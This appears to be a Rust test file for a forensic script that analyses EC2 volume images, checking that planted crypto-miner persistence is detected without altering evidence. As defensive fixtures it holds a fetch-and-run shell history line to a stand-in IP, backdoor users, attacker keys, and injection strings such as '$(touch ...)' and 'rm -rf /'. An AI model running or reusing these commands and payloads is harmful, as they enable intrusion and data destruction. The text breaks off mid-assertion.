//! `infra/host/analyse-volume.sh`, run for real on file-system images these
//! tests build (ext4 without root through `mkfs.ext4 -d`; XFS as root), used
//! as the evidence "device": every planted indicator is found at its path
//! inside the file system, the timeline lists the files, and the image's
//! SHA-256 is the same before and after.
//!
//! The volume is the attacker's: file names with newlines, pipes, quotes,
//! `$(...)` and backticks; timestamps in 2100 and before 1970; a 50 GiB
//! sparse file and 200,000 empty ones; a path deeper than The Sleuth Kit
//! walks; a directory it cannot read; a deleted cron file; an encrypted or
//! unknown volume; lines a lister prints that do not parse. Each fixture
//! also holds the traces of a compromised host (`plant_compromise`), and each
//! test checks that they are all still found, that the script exits 0, that
//! no command named in the volume ran (a canary file), and that the image is
//! unchanged.

use std::collections::BTreeSet;
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Instant;

use playbook::case::custody::sha256_hex;
use serde_json::Value;
use system_tests::repo_root;

/// The volume id every analysis here is given.
const VOLUME: &str = "vol-0123456789abcdef0";

fn plant(root: &Path, path: &str, text: &str, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    let file = root.join(path);
    std::fs::create_dir_all(file.parent().expect("a parent")).expect("dirs");
    std::fs::write(&file, text).expect("planted");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(mode)).expect("mode");
}

#[test]
fn analysis_finds_planted_persistence_and_miner_indicators_and_changes_nothing() {
    let work = std::env::temp_dir().join(format!("ec2-forensics-analysis-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&work);
    let tree = work.join("tree");
    let canary = canary("first");
    plant_compromise(&tree, &canary);
    // A name an attacker chose, with a quote and a pipe: data, never shell text.
    plant(
        &tree,
        "tmp/.x/a\"b|c.json",
        "{\"pools\":[{\"url\":\"stratum+ssl://x.example:443\",\"coin\":\"monero\"}]}\n",
        0o644,
    );
    plant(&tree, "var/log/syslog", "nothing to see\n", 0o644);

    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &[]);
    let before = sha256_hex(&std::fs::read(&image).expect("image"));

    let out = work.join("out");
    let findings = analyse(&image, "vol-0123456789abcdef0", &out);
    assert_eq!(
        sha256_hex(&std::fs::read(&image).expect("image")),
        before,
        "the evidence is unchanged"
    );

    assert_eq!(findings["volumeId"], "vol-0123456789abcdef0");
    assert_unchanged(&findings, &before);
    let found: BTreeSet<(String, String)> = findings["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .map(|i| {
            (
                i["kind"].as_str().unwrap().to_owned(),
                i["path"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for (kind, path) in [
        ("user", "/etc/passwd"),
        ("authorized_keys", "/home/miner/.ssh/authorized_keys"),
        ("cron", "/etc/cron.d/update"),
        ("systemd", "/etc/systemd/system/kworkerd.service"),
        ("shell-history", "/home/miner/.bash_history"),
        ("crypto-mining", "/home/miner/.bash_history"),
        ("crypto-mining", "/tmp/.x/config.json"),
        ("crypto-mining", "/tmp/.x/a\"b|c.json"),
        ("crypto-mining", "/usr/local/bin/kworkerd"),
        ("recent-executable", "/usr/local/bin/kworkerd"),
    ] {
        assert!(
            found.contains(&(kind.to_owned(), path.to_owned())),
            "{kind} at {path}: {found:#?}"
        );
    }
    assert!(
        !found.iter().any(|(_, p)| p == "/var/log/syslog"),
        "no indicator in a plain log"
    );
    let details: Vec<&str> = findings["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["detail"].as_str())
        .collect();
    assert!(details.contains(&"backdoor has uid 0"), "{details:#?}");
    assert!(
        details.iter().any(|d| d.starts_with("miner uid 1001")),
        "{details:#?}"
    );
    assert!(details.contains(&"*/5 * * * * root /tmp/.x/xmrig -c /tmp/.x/config.json"));
    assert!(details.contains(&"ExecStart=/usr/local/bin/kworkerd --quiet"));
    for rule in ["XmrigMiner", "StratumPoolUrl", "MinerConfiguration"] {
        assert!(
            details
                .iter()
                .any(|d| d.starts_with(&format!("YARA {rule}"))),
            "{rule}: {details:#?}"
        );
    }
    // A YARA indicator carries what it matched: the pool, its host, the wallet.
    let config_matches: Vec<&str> = findings["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["kind"] == "crypto-mining" && i["path"] == "/tmp/.x/config.json")
        .flat_map(|i| i["matches"].as_array().expect("matches").iter())
        .filter_map(Value::as_str)
        .collect();
    for matched in [
        "stratum+tcp://xmr.supportxmr.com:3333",
        "xmr.supportxmr.com:3333",
        "\"user\":\"44wallet\"",
    ] {
        assert!(
            config_matches.contains(&matched),
            "{matched}: {config_matches:?}"
        );
    }
    assert!(details.contains(&"YARA StratumPoolUrl: stratum+tcp://xmr.supportxmr.com:3333"));
    assert!(!canary.exists(), "a command named in the volume ran");

    // Every extracted file is the file system's bytes, with its hash.
    for file in findings["files"].as_array().expect("files") {
        let bytes = std::fs::read(out.join(file["file"].as_str().unwrap())).expect("extracted");
        assert_eq!(sha256_hex(&bytes), file["sha256"].as_str().unwrap());
        let planted =
            std::fs::read(tree.join(file["path"].as_str().unwrap().trim_start_matches('/')))
                .expect("planted");
        assert_eq!(bytes, planted, "{}", file["path"]);
    }

    let timeline = std::fs::read_to_string(out.join("timeline.csv")).expect("timeline.csv");
    assert!(timeline.starts_with("Date,Size,Type,Mode,UID,GID,Meta,File Name\n"));
    for path in [
        "/etc/cron.d/update",
        "/usr/local/bin/kworkerd",
        "/var/log/syslog",
    ] {
        assert!(
            timeline.contains(&format!("\"{path}\"")),
            "{path} in the timeline"
        );
    }

    // A second run into the same directory is refused rather than mixed.
    let again = Command::new(repo_root().join("infra/host/analyse-volume.sh"))
        .args(["--device"])
        .arg(&image)
        .args(["--volume-id", "vol-0123456789abcdef0", "--out"])
        .arg(&out)
        .output()
        .expect("runs");
    assert_eq!(again.status.code(), Some(2));
    let _ = std::fs::remove_dir_all(&work);
}

fn map_device(volume_id: &str) -> std::process::Output {
    let fixtures = repo_root().join("tests/fixtures/sys-nitro");
    Command::new(repo_root().join("infra/host/map-device.sh"))
        .args(["--volume-id", volume_id, "--sys"])
        .arg(&fixtures)
        .args(["--dev", "/dev"])
        .output()
        .expect("map-device.sh runs")
}

#[test]
fn evidence_volumes_are_found_by_their_nvme_serial_not_by_the_requested_name() {
    let evidence = map_device("vol-0123456789abcdef0");
    assert!(
        evidence.status.success(),
        "{}",
        String::from_utf8_lossy(&evidence.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&evidence.stdout), "/dev/nvme1n1\n");
    let old_id = map_device("vol-1234abcd");
    assert_eq!(String::from_utf8_lossy(&old_id.stdout), "/dev/nvme3n1\n");

    let detached = map_device("vol-0fffffffffffffff0");
    assert_eq!(
        detached.status.code(),
        Some(1),
        "a volume that is not attached"
    );
    assert!(String::from_utf8_lossy(&detached.stderr).contains("no EBS NVMe device"));
    // An instance-store serial is never taken for a volume's, and a requested
    // device name or anything but a volume id is refused.
    for bad in ["AWS1D2C3B4A59687706F", "/dev/sdf", "vol-0123; rm -rf /", ""] {
        assert_eq!(map_device(bad).status.code(), Some(2), "{bad:?}");
    }
}

#[test]
fn a_logical_volume_is_read_through_the_physical_volumes_own_metadata() {
    let work = work_dir("lvm");
    let pv = lvm_physical_volume(&work);
    let device = work.join("pv.img");
    std::fs::write(&device, &pv).expect("PV image");
    let before = sha256_hex(&pv);

    let findings = analyse(&device, "vol-0fedcba9876543210", &work.join("out"));
    assert_eq!(
        findings["lvm"],
        serde_json::json!([{
            "volumeGroup": "evidencevg", "logicalVolume": "root",
            "physicalVolumeOffset": 0, "offset": 10240, "status": "read"
        }])
    );
    assert_eq!(findings["partitions"], serde_json::json!([10240]));
    assert_indicators(
        &findings,
        &[
            ("cron", "/etc/cron.d/sysupdate"),
            ("authorized_keys", "/root/.ssh/authorized_keys"),
            ("crypto-mining", "/tmp/.x/config.json"),
        ],
    );
    assert_eq!(findings["unchanged"], true);
    assert_eq!(
        sha256_hex(&std::fs::read(&device).expect("PV image")),
        before,
        "the evidence is unchanged"
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

/// Runs analyse-volume.sh on `device` into `out`; its findings.json.
fn analyse(device: &Path, volume_id: &str, out: &Path) -> Value {
    analyse_with(device, volume_id, out, &[], None)
}

/// Runs analyse-volume.sh on `device` into `out` with more `options`, looking
/// for its tools in `tools` first when given; asserts that it exits 0 and
/// returns its findings.json.
fn analyse_with(
    device: &Path,
    volume_id: &str,
    out: &Path,
    options: &[&str],
    tools: Option<&Path>,
) -> Value {
    let mut command = Command::new(repo_root().join("infra/host/analyse-volume.sh"));
    command
        .arg("--device")
        .arg(device)
        .args(["--volume-id", volume_id, "--out"])
        .arg(out)
        .args(options);
    if let Some(tools) = tools {
        let path = std::env::var("PATH").unwrap_or_default();
        command.env("PATH", format!("{}:{path}", tools.display()));
    }
    let run = command.output().expect("analyse-volume.sh runs");
    assert!(
        run.status.success(),
        "exit {:?}: {}",
        run.status.code(),
        String::from_utf8_lossy(&run.stderr)
    );
    serde_json::from_slice(&std::fs::read(out.join("findings.json")).expect("findings.json"))
        .expect("findings.json is JSON")
}

/// Analyses a hostile `image` and checks what must hold whatever the volume
/// holds: exit 0, the image's bytes unchanged, and findings.json saying so.
fn analyse_unchanged(image: &Path, out: &Path, options: &[&str], tools: Option<&Path>) -> Value {
    let before = sha256_of(image);
    let findings = analyse_with(image, VOLUME, out, options, tools);
    assert_eq!(sha256_of(image), before, "the evidence is unchanged");
    assert_unchanged(&findings, &before);
    findings
}

/// findings.json says the device was read whole once (its SHA-256 is the
/// image's) and that a sample of blocks, the first and the last among them,
/// read the same after the analysis as before.
fn assert_unchanged(findings: &Value, sha256: &str) {
    assert_eq!(findings["deviceSha256"], sha256);
    assert_eq!(findings["unchanged"], true);
    let check = &findings["afterCheck"];
    assert_eq!(check["method"], "sample");
    assert_eq!(check["sampleSha256Before"], check["sampleSha256After"]);
    let bytes = findings["deviceBytes"].as_u64().expect("deviceBytes");
    let blocks = (bytes / (1 << 20)).max(1);
    let offsets: Vec<u64> = check["offsets"]
        .as_array()
        .expect("offsets")
        .iter()
        .map(|o| o.as_u64().expect("a block number"))
        .collect();
    assert!(
        offsets.contains(&0) && offsets.contains(&(blocks - 1)),
        "{offsets:?}"
    );
    assert_eq!(
        offsets.len() as u64,
        blocks.min(8),
        "8 blocks at least: {offsets:?}"
    );
}

/// Asserts that findings.json lists every (kind, path) indicator.
fn assert_indicators(findings: &Value, expected: &[(&str, &str)]) {
    let found: BTreeSet<(String, String)> = findings["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .map(|i| {
            (
                i["kind"].as_str().unwrap_or_default().to_owned(),
                i["path"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    for (kind, path) in expected {
        assert!(
            found.contains(&((*kind).to_owned(), (*path).to_owned())),
            "{kind} {path}: {found:?}"
        );
    }
}

fn run(program: &str, args: &[&std::ffi::OsStr]) {
    let out = Command::new(program)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{program}: {e}"));
    assert!(
        out.status.success(),
        "{program} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn an_xfs_file_system_is_mounted_read_only_without_journal_replay() {
    // The Sleuth Kit 4.11 does not read XFS (Amazon Linux 2023's root): the
    // script mounts it read-only, which needs root and a loop device, as on
    // the forensic workstation (make test runs as root on CI).
    assert_root("this test mounts an XFS image: it needs root and loop devices");
    let work = std::env::temp_dir().join(format!("ec2-forensics-xfs-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&work);
    let tree = work.join("tree");
    plant(
        &tree,
        "etc/cron.d/miner",
        "*/5 * * * * root /tmp/.x/xmrig\n",
        0o644,
    );
    plant(
        &tree,
        "tmp/.x/config.json",
        "{\"url\":\"stratum+tcp://pool.supportxmr.com:3333\"}\n",
        0o644,
    );
    plant(
        &tree,
        "root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAkey intruder@203.0.113.9\n",
        0o600,
    );
    let image = work.join("xfs.img");
    mkfs_xfs(&tree, &work, &image);
    let before = sha256_hex(&std::fs::read(&image).unwrap());

    let out = work.join("out");
    let findings = analyse(&image, "vol-0a1b2c3d4e5f60718", &out);
    assert_eq!(
        findings["mounted"],
        serde_json::json!([{"offset": 0, "type": "xfs", "options": "ro,norecovery,nouuid,noexec,nodev,nosuid"}])
    );
    assert_indicators(
        &findings,
        &[
            ("cron", "/etc/cron.d/miner"),
            ("crypto-mining", "/tmp/.x/config.json"),
            ("authorized_keys", "/root/.ssh/authorized_keys"),
        ],
    );
    let timeline = std::fs::read_to_string(out.join("timeline.csv")).unwrap();
    assert!(
        timeline.contains("/etc/cron.d/miner"),
        "the timeline lists the mounted files"
    );
    assert_eq!(
        sha256_hex(&std::fs::read(&image).unwrap()),
        before,
        "the evidence is unchanged"
    );
    // Nothing stays mounted or attached.
    let mounts = std::fs::read_to_string("/proc/mounts").unwrap();
    assert!(
        !mounts.contains("ec2-forensics") && !mounts.contains("/tmp/tmp."),
        "{mounts}"
    );
    let loops = Command::new("losetup").arg("-a").output().unwrap();
    assert!(
        !String::from_utf8_lossy(&loops.stdout).contains(image.to_str().unwrap()),
        "the loop device is detached"
    );
    std::fs::remove_dir_all(&work).unwrap();
}

/// Builds an XFS image at `image` holding `tree` (mkfs.xfs has no -d DIR:
/// it is mounted read-write once, through a loop device in `work`). Root only.
fn mkfs_xfs(tree: &Path, work: &Path, image: &Path) {
    std::fs::File::create(image)
        .unwrap()
        .set_len(320 * 1024 * 1024)
        .unwrap();
    run("mkfs.xfs", &["-q".as_ref(), image.as_os_str()]);
    let loop_device = Command::new("losetup")
        .args(["--find", "--show"])
        .arg(image)
        .output()
        .expect("losetup runs");
    assert!(
        loop_device.status.success(),
        "{}",
        String::from_utf8_lossy(&loop_device.stderr)
    );
    let loop_device = String::from_utf8(loop_device.stdout)
        .unwrap()
        .trim()
        .to_owned();
    // A loop device keeps a read-only flag set while an earlier user held
    // it (analyse-volume.sh sets it on the devices it reads): this one is
    // written to.
    run("blockdev", &["--setrw".as_ref(), loop_device.as_ref()]);
    let mnt = work.join("mnt");
    std::fs::create_dir_all(&mnt).unwrap();
    run("mount", &[loop_device.as_ref(), mnt.as_os_str()]);
    run(
        "cp",
        &["-a".as_ref(), tree.join(".").as_os_str(), mnt.as_os_str()],
    );
    run("umount", &[mnt.as_os_str()]);
    run("losetup", &["-d".as_ref(), loop_device.as_ref()]);
}

/// Where The Sleuth Kit's `fls` is on PATH (a stand-in wraps it).
fn installed_fls() -> PathBuf {
    std::env::var_os("PATH")
        .iter()
        .flat_map(std::env::split_paths)
        .map(|dir| dir.join("fls"))
        .find(|p| p.is_file())
        .expect("fls is installed (make setup installs sleuthkit)")
}

/// A directory holding an `fls` that runs `script`, to put first on PATH.
fn fls_stand_in(work: &Path, script: String) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let tools = work.join("tools");
    std::fs::create_dir_all(&tools).expect("tools");
    let wrapper = tools.join("fls");
    std::fs::write(&wrapper, script).expect("wrapper");
    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).expect("mode");
    tools
}

/// Fails the test unless it runs as root (mounting and loop devices).
fn assert_root(why: &str) {
    let uid = Command::new("id").arg("-u").output().expect("id runs");
    assert_eq!(String::from_utf8_lossy(&uid.stdout).trim(), "0", "{why}");
}

/// Builds an ext4 image of `size` from `tree` without root (mkfs.ext4 -d;
/// it keeps sparse files sparse and every timestamp as planted).
fn mkfs_ext4(tree: &Path, image: &Path, size: &str, options: &[&str]) {
    let made = Command::new("mkfs.ext4")
        .args(["-q", "-F"])
        .args(options)
        .arg("-d")
        .arg(tree)
        .arg(image)
        .arg(size)
        .output()
        .expect("mkfs.ext4 runs (make setup installs e2fsprogs)");
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
}

/// The first MiB of a PV written by the real lvm2 tools (see
/// tests/fixtures/lvm/README.md), with an ext4 file system holding a
/// compromise at its logical volume evidencevg/root (sector 10240): 40 MiB.
fn lvm_physical_volume(work: &Path) -> Vec<u8> {
    let filesystem = work.join("root.img");
    let made = Command::new(repo_root().join("infra/local/evidence-disk.sh"))
        .arg(&filesystem)
        .output()
        .expect("evidence-disk.sh runs");
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let mut pv = gunzip(&repo_root().join("tests/fixtures/lvm/pv-header.img.gz"));
    assert_eq!(pv.len(), 1024 * 1024);
    pv.resize(5 * 1024 * 1024, 0);
    pv.extend(std::fs::read(&filesystem).expect("file system image"));
    pv.resize(40 * 1024 * 1024, 0);
    pv
}

fn gunzip(file: &Path) -> Vec<u8> {
    let out = Command::new("gzip")
        .arg("-dc")
        .arg(file)
        .output()
        .expect("gzip runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// A scratch folder for one test, emptied first.
fn work_dir(name: &str) -> PathBuf {
    let work = std::env::temp_dir().join(format!("ec2-forensics-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&work);
    std::fs::create_dir_all(&work).expect("work dir");
    work
}

/// A file that exists afterwards only if the analysis ran a command the
/// volume named (each fixture names its own in `$(touch ...)`).
fn canary(label: &str) -> PathBuf {
    let path = PathBuf::from(format!("/tmp/ec2f-canary-{}-{label}", std::process::id()));
    let _ = std::fs::remove_file(&path);
    path
}

fn sha256_of(file: &Path) -> String {
    sha256_hex(&std::fs::read(file).expect("image"))
}

/// Sets a file's times with `touch -d` (an ISO date in UTC).
fn touch_date(file: &Path, date: &str) {
    run("touch", &["-d".as_ref(), date.as_ref(), file.as_os_str()]);
}

/// Plants a file whose name is any bytes but `/` and NUL under `dir`.
fn plant_bytes(dir: &Path, name: &[u8], text: &str) {
    std::fs::create_dir_all(dir).expect("dirs");
    std::fs::write(dir.join(OsStr::from_bytes(name)), text).expect("planted");
}

/// What a crypto-mining intrusion leaves on a Linux host: a uid-0 user, an
/// attacker's key, a miner in cron, a systemd unit, a shell history, a pool
/// configuration and a miner binary; and, in /etc/passwd, a uid that is a
/// command creating `canary` if anything ever evaluates it.
fn plant_compromise(root: &Path, canary: &Path) {
    plant(
        root,
        "etc/passwd",
        &format!(
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nbackdoor:x:0:0::/root:/bin/sh\nminer:x:1001:1001::/home/miner:/bin/bash\nghost:x:a[$(touch {})]:0::/:/bin/sh\n",
            canary.display()
        ),
        0o644,
    );
    plant(
        root,
        "home/miner/.ssh/authorized_keys",
        "# added\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker attacker@evil\n",
        0o600,
    );
    plant(
        root,
        "etc/cron.d/update",
        "SHELL=/bin/sh\n*/5 * * * * root /tmp/.x/xmrig -c /tmp/.x/config.json\n",
        0o644,
    );
    plant(
        root,
        "etc/systemd/system/kworkerd.service",
        "[Unit]\nDescription=kernel worker\n[Service]\nExecStart=/usr/local/bin/kworkerd --quiet\n",
        0o644,
    );
    plant(
        root,
        "home/miner/.bash_history",
        "curl -s http://203.0.113.9/x.sh | sh\n./xmrig -o stratum+tcp://pool.minexmr.com:4444\n",
        0o600,
    );
    plant(root, "tmp/.x/config.json", "{\"pools\":[{\"url\":\"stratum+tcp://xmr.supportxmr.com:3333\",\"user\":\"44wallet\"}],\"donate-level\":1}\n", 0o644);
    plant(
        root,
        "usr/local/bin/kworkerd",
        "\u{7f}ELF XMRig/6.21 xmrig randomx\n",
        0o755,
    );
}

/// Asserts that every trace `plant_compromise` left is found, and that the
/// command in its passwd line never ran.
fn assert_compromise_found(findings: &Value, canary: &Path) {
    assert_indicators(
        findings,
        &[
            ("user", "/etc/passwd"),
            ("authorized_keys", "/home/miner/.ssh/authorized_keys"),
            ("cron", "/etc/cron.d/update"),
            ("systemd", "/etc/systemd/system/kworkerd.service"),
            ("crypto-mining", "/tmp/.x/config.json"),
            ("crypto-mining", "/usr/local/bin/kworkerd"),
        ],
    );
    let details = details(findings);
    for detail in [
        "backdoor has uid 0",
        "*/5 * * * * root /tmp/.x/xmrig -c /tmp/.x/config.json",
        "ExecStart=/usr/local/bin/kworkerd --quiet",
        "YARA StratumPoolUrl: stratum+tcp://xmr.supportxmr.com:3333",
    ] {
        assert!(
            details.iter().any(|d| d == detail),
            "{detail}: {details:#?}"
        );
    }
    assert!(
        !canary.exists(),
        "a command named in the volume ran: {}",
        canary.display()
    );
}

fn details(findings: &Value) -> Vec<String> {
    findings["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .filter_map(|i| i["detail"].as_str().map(str::to_owned))
        .collect()
}

/// The indicators of one kind.
fn indicators<'a>(findings: &'a Value, kind: &str) -> Vec<&'a Value> {
    findings["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .filter(|i| i["kind"] == kind)
        .collect()
}

/// The files entry for `path`; fails the test if there is none.
fn file_entry<'a>(findings: &'a Value, path: &str) -> &'a Value {
    let files = findings["files"].as_array().expect("files");
    files
        .iter()
        .find(|f| f["path"] == path)
        .unwrap_or_else(|| panic!("{path:?} was not extracted: {files:#?}"))
}

#[test]
fn a_file_dated_2100_does_not_stop_the_analysis() {
    let work = work_dir("dated-2100");
    let tree = work.join("tree");
    let canary = canary("dated-2100");
    plant_compromise(&tree, &canary);
    plant(&tree, "tmp/future", "from the future\n", 0o644);
    plant(&tree, "tmp/.x/dropper", "#!/bin/sh\n", 0o755);
    touch_date(&tree.join("tmp/future"), "2100-01-01T00:00:00Z");
    touch_date(&tree.join("tmp/.x/dropper"), "2100-01-01T00:00:00Z");
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &[]);

    let findings = analyse_unchanged(&image, &work.join("out"), &[], None);
    assert_compromise_found(&findings, &canary);
    let future = indicators(&findings, "future-timestamp");
    for path in ["/tmp/future", "/tmp/.x/dropper"] {
        assert!(
            future.iter().any(|i| i["path"] == path
                && i["detail"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("mtime 2100-01-01T00:00:00Z")),
            "{path}: {future:#?}"
        );
    }
    // The window is not anchored to the file from the future.
    let analysed = findings["analysisTime"].as_u64().expect("analysisTime");
    assert_eq!(
        findings["recencyAnchor"]["source"],
        "newest plausible mtime"
    );
    let anchor = findings["recencyAnchor"]["epoch"].as_u64().expect("epoch");
    assert!(anchor <= analysed, "{}", findings["recencyAnchor"]);
    assert_indicators(
        &findings,
        &[("recent-executable", "/usr/local/bin/kworkerd")],
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn a_file_dated_before_1970_does_not_stop_the_analysis() {
    let work = work_dir("dated-1960");
    let tree = work.join("tree");
    let canary = canary("dated-1960");
    plant_compromise(&tree, &canary);
    plant(&tree, "tmp/past", "from the past\n", 0o644);
    touch_date(&tree.join("tmp/past"), "1960-01-01T00:00:00Z");
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &[]);

    let out = work.join("out");
    let findings = analyse_unchanged(&image, &out, &[], None);
    assert_compromise_found(&findings, &canary);
    // The Sleuth Kit prints ext4 times as unsigned 32-bit numbers: 1960 reads
    // as 2096. Such a date is reported with the one it may really be.
    let past: Vec<&Value> = indicators(&findings, "future-timestamp")
        .into_iter()
        .filter(|i| i["path"] == "/tmp/past")
        .collect();
    for indicator in &past {
        assert!(
            indicator["detail"]
                .as_str()
                .unwrap_or_default()
                .contains("1960-01-01T00:00:00Z if stored as a signed 32-bit time"),
            "{indicator}"
        );
    }
    let analysed = findings["analysisTime"].as_u64().expect("analysisTime");
    let anchor = findings["recencyAnchor"]["epoch"].as_u64().expect("epoch");
    assert!(anchor <= analysed, "{}", findings["recencyAnchor"]);
    let timeline = std::fs::read_to_string(out.join("timeline.csv")).expect("timeline.csv");
    assert!(timeline.contains("\"/tmp/past\""), "the timeline lists it");
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn the_recency_window_starts_from_the_snapshot_start_when_it_is_given() {
    let work = work_dir("reference-time");
    let tree = work.join("tree");
    let canary = canary("reference-time");
    plant_compromise(&tree, &canary);
    touch_date(&tree.join("usr/local/bin/kworkerd"), "2020-01-01T00:00:00Z");
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &[]);

    // Snapshot started 2020-01-15: the miner dropped on 2020-01-01 is recent.
    let findings = analyse_unchanged(
        &image,
        &work.join("out-snapshot"),
        &["--reference-time", "1579046400"],
        None,
    );
    assert_compromise_found(&findings, &canary);
    assert_eq!(
        findings["recencyAnchor"],
        serde_json::json!({"source": "snapshot start", "epoch": 1_579_046_400u64})
    );
    let recent = indicators(&findings, "recent-executable");
    assert!(
        recent.iter().any(|i| i["path"] == "/usr/local/bin/kworkerd"
            && i["detail"]
                == "modified 2020-01-01T00:00:00Z, within 30 days of the snapshot's start"),
        "{recent:#?}"
    );

    // Without it, the newest plausible change (the files planted today) is
    // the anchor, and a binary from 2020 is not recent.
    let findings = analyse_unchanged(&image, &work.join("out-newest"), &[], None);
    assert_eq!(
        findings["recencyAnchor"]["source"],
        "newest plausible mtime"
    );
    assert!(
        !indicators(&findings, "recent-executable")
            .iter()
            .any(|i| i["path"] == "/usr/local/bin/kworkerd"),
        "{:#?}",
        findings["indicators"]
    );
    // A bad reference time is refused before anything is read.
    let refused = Command::new(repo_root().join("infra/host/analyse-volume.sh"))
        .arg("--device")
        .arg(&image)
        .args(["--volume-id", VOLUME, "--reference-time", "1e9", "--out"])
        .arg(work.join("out-refused"))
        .output()
        .expect("runs");
    assert_eq!(refused.status.code(), Some(2));
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn hostile_file_names_and_link_targets_are_data_never_shell_text() {
    let work = work_dir("hostile-names");
    let tree = work.join("tree");
    let canary_passwd = canary("names-passwd");
    plant_compromise(&tree, &canary_passwd);
    let tmp = tree.join("tmp");
    let long = vec![b'x'; 255];
    // Each name as written, and as findings.json shows it (The Sleuth Kit
    // writes every control character as "^").
    let names: Vec<(&[u8], String)> = vec![
        (b"new\nline".as_slice(), "/tmp/new^line".to_owned()),
        (b"pi|pe".as_slice(), "/tmp/pi|pe".to_owned()),
        (
            b"pi|pe|0|r|0|0|9|9|9|9|9".as_slice(),
            "/tmp/pi|pe|0|r|0|0|9|9|9|9|9".to_owned(),
        ),
        (b"ta\tb".as_slice(), "/tmp/ta^b".to_owned()),
        (b"q'uo\"te".as_slice(), "/tmp/q'uo\"te".to_owned()),
        (b"semi;colon".as_slice(), "/tmp/semi;colon".to_owned()),
        (b"*".as_slice(), "/tmp/*".to_owned()),
        (b"?".as_slice(), "/tmp/?".to_owned()),
        (b"[a]".as_slice(), "/tmp/[a]".to_owned()),
        (
            "bidi\u{202e}txt.exe".as_bytes(),
            "/tmp/bidi\u{202e}txt.exe".to_owned(),
        ),
        (
            b"ctl\x01\x1b[31mred".as_slice(),
            "/tmp/ctl^^[31mred".to_owned(),
        ),
        (b"%41%7C".as_slice(), "/tmp/%41%7C".to_owned()),
        (long.as_slice(), format!("/tmp/{}", "x".repeat(255))),
    ];
    for (n, (name, _)) in names.iter().enumerate() {
        plant_bytes(&tmp, name, &format!("planted {n}\n"));
    }
    // Commands in names: a path holding `$(touch ...)` and backticks (a name
    // cannot hold "/", a path can), and a link target with a newline.
    let subst = canary("names-subst");
    let tick = canary("names-tick");
    let target = canary("names-link");
    let subst_dir = tmp.join(format!("$(touch {})", subst.display()));
    std::fs::create_dir_all(&subst_dir).expect("dirs");
    std::fs::write(
        subst_dir.join("x.json"),
        "{\"url\":\"stratum+tcp://subst.supportxmr.com:1\"}\n",
    )
    .expect("planted");
    let tick_dir = tmp.join(format!("`touch {}`", tick.display()));
    std::fs::create_dir_all(&tick_dir).expect("dirs");
    std::fs::write(
        tick_dir.join("cfg"),
        "{\"url\":\"stratum+tcp://tick.supportxmr.com:2\"}\n",
    )
    .expect("planted");
    let link_target = format!("tar\nget|$(touch {})|0|0", target.display());
    std::os::unix::fs::symlink(
        OsStr::from_bytes(link_target.as_bytes()),
        tmp.join("weirdlink"),
    )
    .expect("symlink");
    // Lines that read as options to a program handed them as arguments.
    plant(&tree, "etc/cron.d/options", "--arg\n-r\n--rawfile\n", 0o644);
    std::os::unix::fs::symlink("loop2", tmp.join("loop1")).expect("symlink");
    std::os::unix::fs::symlink("loop1", tmp.join("loop2")).expect("symlink");
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "32M", &[]);

    let out = work.join("out");
    let findings = analyse_unchanged(&image, &out, &[], None);
    assert_compromise_found(&findings, &canary_passwd);
    for ran in [&subst, &tick, &target] {
        assert!(
            !ran.exists(),
            "a command named in the volume ran: {}",
            ran.display()
        );
    }
    assert_indicators(
        &findings,
        &[
            (
                "crypto-mining",
                format!("/tmp/$(touch {})/x.json", subst.display()).as_str(),
            ),
            (
                "crypto-mining",
                format!("/tmp/`touch {}`/cfg", tick.display()).as_str(),
            ),
        ],
    );
    // Every name was extracted, with its own bytes.
    for (n, (_, shown)) in names.iter().enumerate() {
        let entry = file_entry(&findings, shown);
        let bytes =
            std::fs::read(out.join(entry["file"].as_str().expect("file"))).expect("extracted");
        assert_eq!(bytes, format!("planted {n}\n").as_bytes(), "{shown:?}");
    }
    let options: Vec<&Value> = indicators(&findings, "cron")
        .into_iter()
        .filter(|i| i["path"] == "/etc/cron.d/options")
        .map(|i| &i["detail"])
        .collect();
    assert_eq!(options, ["--arg", "-r", "--rawfile"], "cron lines are data");
    assert_eq!(findings["unparsedTotal"], 0, "{}", findings["unparsed"]);
    // findings.json is plain ASCII: a bidi override or an escape sequence
    // in a name is written as \uXXXX, never raw into a terminal.
    let raw = std::fs::read(out.join("findings.json")).expect("findings.json");
    assert!(
